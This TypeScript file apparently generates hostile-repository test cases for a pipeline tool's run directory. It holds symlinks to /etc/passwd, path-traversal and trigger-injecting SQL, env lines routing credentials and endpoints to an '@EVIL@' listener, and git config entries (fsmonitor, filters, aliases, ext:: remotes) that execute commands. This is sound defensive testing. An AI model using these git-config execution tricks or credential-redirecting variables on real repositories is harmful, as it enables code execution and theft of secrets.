import { type Draft, draft } from '../input.ts';
import type { Random } from '../random.ts';
import { json, places, share } from './hostile.ts';

/**
 * A stranger's repository with a run directory in it, as steps that change one of ours, a line each; see
 * `check/repository.ts`, which carries them out. Paths are relative to the work tree, targets to the folder above it;
 * `@…@` stands for what is only known there: `@IMAGE@` and `@SHARD@` a file and a folder of images, `@TABLE@` a kept
 * table, `@PWNED@` a file that nothing may make.
 */

/**
 * What is asked of the repository. `trusted` is `run --trust-directory`, `stranger` is `run` on a machine that did not make the run, `dotenv` is
 * `run` with a file of variables out of the repository, and so are the commands behind `dotenv-`.
 */
export const repositoryForms = [
  'run',
  'trusted',
  'stranger',
  'dotenv',
  'dotenv-engine',
  'dotenv-status',
  'dotenv-manifest',
  'dotenv-plan',
  'dotenv-worker',
  'verify',
  'export',
  'status',
  'manifest',
  'plan',
  'show',
  'resolve',
  'repair',
  'clean',
  'report',
  'serve',
  'merge',
  'ls',
  'rehearsal',
  'out',
  'init',
] as const;

const run = 'runs/foxes';
const ofRun = (...names: readonly string[]): readonly string[] => names.map((name) => `${run}/${name}`);

const files = ofRun(
  'state.db',
  'state.db-wal',
  'state.db-shm',
  'state.db-journal',
  'lock',
  'lock-wal',
  'lock-shm',
  'lock-journal',
  'lock.json',
  'submissions',
  'lock.json.new',
  'lock.json.0a1b2c3d.part',
  'run.log',
  'run.json',
  'run.json.0a1b2c3d.part',
  'manifest.csv',
  'manifest.csv.0a1b2c3d.part',
  'inputs/table.part',
  'inputs/table.0a1b2c3d.part',
  'inputs/@TABLE@',
  `inputs/${'a'.repeat(64)}`,
  '@IMAGE@',
  '@SHARD@/0000-1.png',
  'images/.incoming/0000-1.1.part',
  'images/.incoming/0000-1.0a1b2c3d.part',
  'video/00/0000-1.mp4',
  'text/.incoming/0000.answer.1.part',
  'video/00/0000-1.mp4',
  'sandbox/sandbox.sqlite',
  'sandbox/sandbox.lock',
  'unheard-of',
);

const folders = ofRun(
  'images',
  '@SHARD@',
  'images/00',
  'images/.incoming',
  'text',
  'text/.incoming',
  'video',
  'inputs',
  'sandbox',
  'unheard-of',
);

const targets = [
  'outside/file',
  'outside/private.png',
  'outside/new',
  'outside/table.csv',
  'outside/pipe',
  'work/foxes.yaml',
  '/dev/zero',
  '/dev/stdin',
  '/etc/passwd',
  'work/runs/foxes/run.log',
] as const;

const folderTargets = ['outside', 'outside/folder', 'outside/nowhere', '.', '/', 'work'] as const;

/** Statements that a state's maker may have given it: what it declares, and what it says. */
const statements = [
  "CREATE TRIGGER x AFTER INSERT ON attempts BEGIN UPDATE jobs SET status = 'done'; END",
  'CREATE TRIGGER x BEFORE UPDATE ON jobs BEGIN DELETE FROM attempts; END',
  "CREATE TRIGGER jobs_more AFTER INSERT ON facts BEGIN INSERT INTO inputs VALUES ('x', '', 0, 0); END",
  'DROP TRIGGER jobs_added',
  'DROP TABLE attempts; CREATE VIEW attempts AS SELECT 1 AS id, key, doc FROM jobs',
  'CREATE VIEW x AS SELECT * FROM sqlite_schema',
  'CREATE VIRTUAL TABLE x USING fts5(a)',
  'CREATE VIRTUAL TABLE x USING rtree(a, b, c)',
  "CREATE INDEX x ON jobs (json_extract(doc, '$.status'))",
  'ALTER TABLE jobs ADD COLUMN more TEXT',
  'ALTER TABLE jobs RENAME TO work',
  "CREATE TABLE more (a TEXT DEFAULT (hex(randomblob(10))), b AS (load_extension('x')))",
  'DROP TABLE inputs',
  'PRAGMA user_version = 1',
  'PRAGMA user_version = 2',
  'PRAGMA user_version = 99',
  'PRAGMA application_id = 7',
  'PRAGMA journal_mode = DELETE',
  'PRAGMA journal_mode = PERSIST; UPDATE jobs SET code = code',
  "UPDATE jobs SET doc = replace(doc, 'images/', '../../../outside/')",
  `UPDATE jobs SET doc = json_set(doc, '$.artifacts[0].file', '../../../outside/private.png')`,
  `UPDATE jobs SET doc = json_set(doc, '$.artifacts[0].file', '/etc/passwd')`,
  `UPDATE jobs SET doc = json_set(doc, '$.artifacts[0].file', 'images/../../../../outside/private.png')`,
  `UPDATE jobs SET doc = json_set(doc, '$.artifacts[0].file', '')`,
  `UPDATE jobs SET doc = json_set(doc, '$.artifacts[0].file', 'state.db')`,
  "UPDATE facts SET value = '../../outside/file' WHERE name = 'pipeline.file'",
  "UPDATE facts SET value = replace(value, 'rows.csv', '../outside/table.csv')",
  "UPDATE facts SET value = json_set(value, '$.filesRoot', '/', '$.tables', json('[]')) WHERE name = 'run.last'",
  "UPDATE facts SET value = json_set(value, '$.filesRoot', '/', '$.tables[0].copied', json('false')) WHERE name = 'run.last'",
  "UPDATE facts SET value = '/x.yaml' WHERE name = 'pipeline.path'",
  "INSERT OR REPLACE INTO facts (name, value) VALUES ('artifacts.place', 's3://evil/set')",
  "INSERT OR REPLACE INTO facts (name, value) VALUES ('state.maker', 'x.' || hex(randomblob(32)))",
  "DELETE FROM facts WHERE name = 'state.maker'",
] as const;

/** Facts of a state: what it says of places, of what ran last, and of whose it is. */
const facts = [
  'run.last',
  'run.directory',
  'pipeline.file',
  'pipeline.path',
  'pipeline.text',
  'artifacts.place',
  'artifacts.owner',
  'state.maker',
  'services',
  'submissions',
  'unheard-of',
] as const;

/** What a state says, in whichever table and column: those of a later release too. */
function said(random: Random): string {
  const value = json(random);
  return random.happens(0.4)
    ? `fact ${random.pick(facts)} ${random.happens(0.6) ? random.pick(places) : value}`
    : `${random.pick(['within', 'within', 'cell'])} ${share(random)} ${share(random)} ${share(random)} ${value}`;
}

/** Lines of a file of variables whose addresses are a stranger's: `@EVIL@` is where he listens. */
const variables = [
  'PROMPTPRESS_BASE_URL=http://@EVIL@',
  'PROMPTPRESS_ENGINE=postgres://u@@EVIL@/db',
  'PROMPTPRESS_ENGINE=postgres://u@@EVIL@/db?sslmode=require#foxes',
  'PROMPTPRESS_ENGINE=postgres://u:${PGPASSWORD}@@EVIL@/db',
  'AWS_ENDPOINT_URL_S3=http://@EVIL@',
  'AWS_ENDPOINT_URL=http://@EVIL@',
  'AWS_ACCESS_KEY_ID=AKIAOFTHEFILE',
  'PROMPTPRESS_NOTIFY=http://@EVIL@/told',
  'PROMPTPRESS_TRUSTED_ORIGINS=http://@EVIL@',
  'HTTP_PROXY=http://@EVIL@',
  'http_proxy=http://@EVIL@',
  'HOME=/',
  'XDG_STATE_HOME=/',
  'PGPASSFILE=../outside/file',
  'PGPASSWORD=${AWS_SECRET_ACCESS_KEY}',
  'AWS_PROFILE=x',
  'AWS_SECRET_ACCESS_KEY=of-the-file',
  'HTTPS_PROXY=http://@EVIL@',
  'https_proxy=http://@EVIL@',
  'NO_PROXY=',
  'PROMPTPRESS_API_KEY=${AWS_SECRET_ACCESS_KEY}',
  'NODE_EXTRA_CA_CERTS=../outside/file',
] as const;

/** What a configuration may name to have it run. */
const configurations = [
  '[core]\n\tfsmonitor = "touch @PWNED@"\n',
  '[core]\n\thooksPath = ../hooks\n\tpager = "touch @PWNED@"\n\tsshCommand = "touch @PWNED@"\n\teditor = "touch @PWNED@"\n',
  '[core]\n\tfsmonitor = .git/hooks/query-watchman\n[core]\n\tuntrackedCache = true\n',
  '[filter "x"]\n\tclean = "touch @PWNED@; cat"\n\tsmudge = "touch @PWNED@; cat"\n\trequired = true\n',
  '[filter "x"]\n\tprocess = "touch @PWNED@"\n',
  '[diff]\n\texternal = "touch @PWNED@"\n[diff "x"]\n\ttextconv = "touch @PWNED@"\n\tcommand = "touch @PWNED@"\n',
  '[alias]\n\tstatus = "!touch @PWNED@"\n\tls-files = "!touch @PWNED@"\n\trev-parse = "!touch @PWNED@"\n\tconfig = "!touch @PWNED@"\n',
  '[core]\n\tworktree = ../../outside\n',
  '[core]\n\tworktree = /\n',
  '[core]\n\tbare = true\n',
  '[core]\n\tattributesFile = ../outside/file\n\texcludesFile = ../outside/pipe\n',
  '[remote "origin"]\n\tpromisor = true\n\turl = ext::touch @PWNED@\n[protocol "ext"]\n\tallow = always\n[extensions]\n\tpartialClone = origin\n[core]\n\trepositoryFormatVersion = 1\n',
  '[credential]\n\thelper = "!touch @PWNED@"\n[gpg]\n\tprogram = "touch @PWNED@"\n',
  '[include]\n\tpath = ../outside/file\n[include]\n\tpath = ../../outside/pipe\n',
  '[includeIf "gitdir:/"]\n\tpath = ../.gitconfig\n',
  '[submodule "x"]\n\tupdate = !touch @PWNED@\n\tpath = runs\n\turl = ext::touch @PWNED@\n',
  '[trace2]\n\teventTarget = @PWNED@\n\tnormalTarget = @PWNED@\n\tperfTarget = @PWNED@\n',
] as const;

const hooks = [
  'post-index-change',
  'fsmonitor-watchman',
  'query-watchman',
  'reference-transaction',
  'post-checkout',
  'pre-auto-gc',
];

const tracked = [
  ...ofRun(
    'state.db',
    'state.db-wal',
    'lock',
    'lock.json',
    'run.log',
    'inputs',
    'sandbox',
    'manifest.csv',
    'run.json',
    '@IMAGE@',
  ),
];

/** What a user may have in a folder that he names with `--out` by error, and what looks like ours. */
const belongings = [
  'manifest.csv',
  'run.json',
  'run.log',
  'lock',
  'lock.json',
  'submissions',
  `inputs/${'a'.repeat(64)}`,
  'inputs/table.part',
  'images/.incoming/holiday.part',
  'images/00/0000-1.png',
  'run.json.0a1b2c3d.part',
  'notes.txt',
  'state.db',
] as const;

function place(random: Random): string {
  const chosen = random.next();
  if (chosen < 0.4) return `link ${random.pick(files)} ${random.pick(targets)}`;
  if (chosen < 0.65) return `link ${random.pick(folders)} ${random.pick(folderTargets)}`;
  if (chosen < 0.78)
    return `hard ${random.pick(files)} ${random.pick(['outside/file', 'outside/private.png'])}`;
  const kind = random.pick(['pipe', 'socket', 'folder', 'empty', 'remove']);
  return `${kind} ${random.pick([...files, ...folders])}`;
}

function repository(random: Random): string {
  const config = random.pick(configurations);
  return random.pick([
    `config ${config}`,
    `work-tree-config ${config}`,
    `included ${config}`,
    `bare ${config}`,
    `bare-run ${config}`,
    `hook ${random.pick(hooks)}`,
    'attributes * filter=x diff=x\n',
  ]);
}

function step(random: Random): string {
  const chosen = random.next();
  if (chosen < 0.35) return place(random);
  if (chosen < 0.5) return said(random);
  if (chosen < 0.62) return `sql ${random.pick(statements)}`;
  if (chosen < 0.68) return `journal ${random.pick(['state.db', 'lock'])}`;
  if (chosen < 0.78) return `tracked ${random.pick(tracked)}`;
  if (chosen < 0.82) return `way ${random.pick(['runs', run])}`;
  return repository(random);
}

export function hostileRepository(random: Random): Draft {
  // Those that write are asked most.
  const form = random.happens(0.5) ? 'run' : random.pick(repositoryForms);
  if (form === 'out') return draft(form, ...random.some(1, 4, () => `own ${random.pick(belongings)}`));
  if (form === 'init') {
    const names = ['pipeline.yaml', '.gitignore', '.promptpress', '.promptpress/pipeline.schema.json'];
    return draft(
      form,
      ...random.some(1, 3, () => `link new/${random.pick(names)} ${random.pick([...targets, 'outside'])}`),
    );
  }
  if (form.startsWith('dotenv'))
    return draft(form, ...random.some(1, 5, () => `env ${random.pick(variables)}`));
  const steps = random.some(1, random.pick([1, 2, 5]), () => step(random));
  if (form !== 'rehearsal') return draft(form, ...steps);
  return draft(
    form,
    ...steps.map((line) => line.replaceAll(`${run}/sandbox/`, 'tasks/').replaceAll(`${run}/`, 'tasks/')),
  );
}
